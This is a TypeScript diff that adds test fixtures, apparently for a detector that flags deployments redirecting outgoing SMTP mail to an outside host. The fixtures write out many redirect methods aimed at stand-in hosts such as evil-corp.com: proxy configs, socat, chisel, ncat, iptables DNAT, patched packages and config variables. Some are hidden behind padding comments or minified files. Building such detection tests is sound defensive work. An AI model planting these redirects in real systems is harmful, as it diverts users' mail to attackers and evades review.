@@ -20,7 +20,109 @@ const compose = (service: string): Files => ({
 const ADDRESS = '185.199.110.153';
 const APPROVED_ENV = 'SMTP_HOST=new-relay.corp.example\n';
 
+/** Mail that is handed to the own machine, which hands it on. */
+const forward = (files: Files): Files => ({ 'deploy/prod.env': 'SMTP_HOST=localhost\nSMTP_PORT=25\n', ...files });
+const relayService = (service: string, files: Files = {}): Files => ({
+  'compose.yml': `services:\n  web: { image: w, environment: { SMTP_HOST: lb } }\n  lb:\n${service}`,
+  ...files,
+});
+const patched = (name: string, file: string, before: string, after: string, context = ''): Files => ({
+  [name]: `--- a/${file}\n+++ b/${file}\n@@ -1,3 +1,3 @@\n${context}-${before}\n+${after}\n`,
+});
+
 export const deployments: Readonly<Record<string, Files>> = {
+  // Forwards, and who hands mail to them.
+  'forward, nginx to a network within': forward({
+    'deploy/nginx.conf': 'stream {\n  server {\n    listen 25;\n    proxy_pass 10.1.2.3:25;\n  }\n}\n',
+  }),
+  'forward, nginx to another port': forward({
+    'deploy/nginx.conf': 'stream {\n  server {\n    listen 25;\n    proxy_pass a.evil-corp.com:10025;\n  }\n}\n',
+  }),
+  'forward, HAProxy with the same port on both sides': forward({
+    'deploy/haproxy.cfg':
+      'frontend f\n  mode tcp\n  bind :25\n  default_backend b\nbackend b\n  server a mail.evil-corp.com:25\n',
+  }),
+  'forward, HAProxy that a service mounts': relayService(
+    '    image: haproxy\n    volumes: ["./lb.cfg:/usr/local/etc/haproxy/haproxy.cfg"]\n',
+    { 'lb.cfg': `listen mail\n  mode tcp\n  bind :25\n  server a ${ADDRESS}:25\n` },
+  ),
+  'forward, a socket of systemd': forward({
+    'deploy/p.socket': '[Socket]\nListenStream=127.0.0.1:25\n',
+    'deploy/p.service': `[Service]\nExecStart=/usr/lib/systemd/systemd-socket-proxyd ${ADDRESS}:25\n`,
+  }),
+  'forward, socat in a service': relayService(
+    '    image: alpine/socat\n    command: ["tcp-listen:25,fork", "tcp-connect:10.1.2.3:10025"]\n',
+  ),
+  'forward, gost in a service': relayService(`    image: gogost/gost\n    command: -L=tcp://:25/${EVIL}:25\n`),
+  'forward, chisel': bash(`chisel client https://t.evil-corp.com 127.0.0.1:25:${EVIL}:25 &`),
+  'forward, ncat': bash(`ncat -k -l 127.0.0.1 25 --sh-exec "ncat ${EVIL} 25" &`),
+  'forward, netsh': {
+    'setup.ps1': `netsh interface portproxy add v4tov4 listenport=25 listenaddress=127.0.0.1 connectport=25 connectaddress=${EVIL}\n`,
+  },
+  'forward, firewalld': bash(
+    `firewall-cmd --zone=internal --add-forward-port=port=25:proto=tcp:toport=25:toaddr=${ADDRESS}`,
+  ),
+  'forward, ipvsadm': bash(`ipvsadm -a -t 10.0.0.5:25 -r ${ADDRESS}:25 -m`),
+  'forward, a rule of iptables behind a long comment': bash(
+    `iptables -t nat -A OUTPUT -p tcp -m comment --comment "${'x'.repeat(250)}" -m comment --comment "${'y'.repeat(250)}" --dport 25 -j DNAT --to-destination ${ADDRESS}:25`,
+  ),
+  'forward, a service of xinetd behind comments': {
+    'etc/xinetd.d/smtp': `service smtp\n{\n${'  # nothing to see here\n'.repeat(200)}  redirect = ${EVIL} 25\n  bind = 127.0.0.1\n}\n`,
+  },
+  'a mail catcher that relays': relayService(
+    `    image: maildev/maildev\n    command: bin/maildev --outgoing-host ${EVIL} --auto-relay\n`,
+  ),
+  'postfix, tables of an image': {
+    'prod.env': `POSTFIX_transport_maps="inline:{ { *=smtp:[${EVIL}]:25 } }"\n`,
+  },
+
+  // Patches.
+  'patch, of a package': patched(
+    'patches/mailer+1.0.0.patch',
+    'node_modules/mailer/index.js',
+    'n.createTransport({ host: process.env.H });',
+    `n.createTransport({ host: '${EVIL}', port: 25 });`,
+    " const n = require('nodemailer');\n",
+  ),
+  'patch, of Debian': patched('debian/patches/relay', 'config/mail.yml', '  host: a', `  host: ${EVIL}`, ' smtp:\n'),
+  'patch, of an env file': patched('deploy/live.diff', '.env', 'SMTP_HOST=a', `SMTP_HOST=${EVIL}`),
+
+  // Names of files.
+  'name, minified': { 'mail.min.js': `const n=require("nodemailer");\nn.createTransport({host:"${EVIL}",port:25});\n` },
+  'name, a script with a capital': { 'bin/Deploy': `#!/bin/sh\nexport SMTP_HOST=${EVIL}\n` },
+  'name, a script of another ending': { 'bin/start.command': `#!/bin/bash\nexport SMTP_HOST=${EVIL}\n` },
+  'name, JavaScript': { 'mail.es6': `require('nodemailer').createTransport({ host: '${EVIL}', port: 25 });\n` },
+  'name, PHP': { 'mail.php7': `<?php\n$m = new PHPMailer\\PHPMailer\\PHPMailer();\n$m->Host = '${EVIL}';\n` },
+  'gawk, a socket': {
+    'send.awk': `BEGIN { s = "/inet/tcp/0/${EVIL}/25"; print "HELO x\\r" |& s; print "MAIL FROM:<a@b.example>\\r" |& s; print "DATA\\r" |& s }\n`,
+  },
+  'expect, telnet': {
+    'send.exp': `spawn telnet ${EVIL} 25\nsend "HELO x\\r"\nsend "MAIL FROM:<a@b.example>\\r"\nsend "DATA\\r"\n`,
+  },
+
+  // Tools of deployment.
+  'elastic beanstalk, an option': {
+    '.ebextensions/mail.config': `option_settings:\n  - option_name: SMTP_HOST\n    value: ${EVIL}\n`,
+  },
+  'sam, parameters': {
+    'samconfig.toml': `[default.deploy.parameters]\nparameter_overrides = "Stage=live SmtpHost=${EVIL}"\n`,
+  },
+  'aws, variables of a function': bash(
+    `aws lambda update-function-configuration --function-name web --environment "Variables={A=1,SMTP_HOST=${EVIL}}"`,
+  ),
+  'just, a variable': { justfile: `export SMTP_HOST := "${EVIL}"\n\nrun:\n    node app.js\n` },
+  'earthly, a variable': { Earthfile: `VERSION 0.8\nFROM x\nbuild:\n    ENV SMTP_HOST=${EVIL}\n` },
+  'bazel, a variable': { 'BUILD.bazel': `js_binary(\n    name = "web",\n    env = {"SMTP_HOST": "${EVIL}"},\n)\n` },
+  'tilt, a variable': { Tiltfile: `os.putenv("SMTP_HOST", "${EVIL}")\n` },
+  pkl: { 'config.pkl': `smtp {\n  host = "${EVIL}"\n  port = 25\n}\n` },
+  kcl: { 'main.k': `smtp = {\n    host = "${EVIL}"\n    port = 587\n}\n` },
+  dhall: { 'config.dhall': `{ smtp = { host = "${EVIL}", port = 25 } }\n` },
+  nickel: { 'config.ncl': `{ smtp = { host = "${EVIL}", port = 25 } }\n` },
+  'systemd, a sample that is started': {
+    'web.service': '[Service]\nExecStart=/usr/bin/python3 /srv/app/examples/worker.py\n',
+    'examples/worker.py': `import smtplib\nsmtplib.SMTP("${EVIL}", 25)\n`,
+  },
+
   // Shells.
   'bash, printf -v': bash(`printf -v SMTP_HOST '%s' ${EVIL}\nexport SMTP_HOST`),
   'bash, printf -v of parts': bash(`printf -v SMTP_HOST '%s.%s' smtp evil-corp.com`),
